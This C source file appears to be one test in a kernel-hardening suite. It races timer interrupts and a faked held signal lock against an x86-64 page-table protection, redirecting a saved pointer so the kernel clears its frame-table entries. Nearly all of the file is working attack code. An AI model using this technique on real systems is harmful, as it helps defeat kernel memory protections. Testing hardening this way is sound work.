// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on where a section stores what it took out of tables: to an array on the
 * stack of its caller, by a pointer that it was given. The process's own timer
 * interrupts it ahead of the section, and its handler waits for the lock of the
 * process's signals, which is made to look held. Meanwhile the pointer in the saved
 * registers is aimed at the table of frames. Entries that were empty are zeros, by
 * which the kernel's text is nobody's.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define FUNCTION	"__kpkeys_unlink_tables"
#define LENGTH		0x50			/* bytes of it, at least up to its section */
#define STORED		(32 * 8)		/* at most, of one section */
#define TABLES		510			/* that it is called for, in one munmap() */
#define CHANGED_PART	0x59
#define UNMAPPER_CPU	1
#define INTERVAL	1000			/* microseconds */
#define HOLD		3000			/* likewise */
#define SECONDS		15

static volatile unsigned long *rounds;

/* What is mapped behind it keeps the table whose entries are looked at. */
static void unmap_for_ever(void)
{
	char *base = (char *)user_room(CHANGED_PART);
	size_t size = TABLES * PMD_SIZE;
	volatile char *behind;

	stay_on_cpu(UNMAPPER_CPU);
	heed_alarms();
	behind = mmap(base + size, PAGE_SIZE, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	*behind = 1;
	alarm_every(INTERVAL);
	for (;; (*rounds)++) {
		mmap(base, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		munmap(base, size);
	}
}

/* The section stores so much from there on, of one page. */
static uint64_t target_of(uint64_t frame)
{
	uint64_t page = frame & -PAGE_SIZE, at = frame & -8UL;

	return at > page + PAGE_SIZE - STORED ? page + PAGE_SIZE - STORED : at;
}

struct change {
	const struct task *task;
	uint64_t target;
	int changed;
};

/* What an interrupt of the function saved: pointers into the stack, but to the frame. */
static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct change *change = data;
	int i;

	for (i = 0; i < FRAME_GENERAL; i++) {
		if (i == FRAME_BP ||
		    frame[i] - change->task->stack >= change->task->stack_size)
			continue;
		kwrite64(at + i * 8, change->target);
		change->changed++;
	}
}

enum outcome unlinked_entries(void)
{
	uint64_t frame, lock, function = ksymbol(FUNCTION);
	time_t end = time(NULL) + SECONDS;
	struct change change = { 0 };
	uint8_t kind = FRAME_ORDINARY;
	struct task task;
	int held = 0;
	pid_t pid;

	if (!is_protected())
		return vdso_text();
	frame = frame_of_text();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!frame || !function)
		return broken("no table of frames, or no such function");
	rounds = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	pid = fork();
	if (!pid)
		unmap_for_ever();
	usleep(100000);
	if (ktask(pid, &task))
		return broken("no task");
	lock = find_signal_lock(&task);
	if (!lock)
		return broken("no lock");
	change.task = &task;
	change.target = target_of(frame);
	while (kind != FRAME_STATE && time(NULL) < end) {
		set_lock(lock, true);
		usleep(HOLD);
		find_frames(&task, function, LENGTH, change_frame, &change);
		set_lock(lock, false);
		held++;
		usleep(500);
		kread(frame, &kind, sizeof(kind));
	}
	kill(pid, SIGKILL);
	if (!change.changed)
		return broken("no interrupt of the function (%lu rounds, held %d times)", *rounds, held);
	if (kind != FRAME_STATE)
		return lost("%lu rounds, held %d times, %d pointers changed", *rounds, held,
			    change.changed);
	return won("the kernel cleared what the table of frames says of text");
}
#else
enum outcome unlinked_entries(void)
{
	return skipped("x86-64 only");
}
#endif
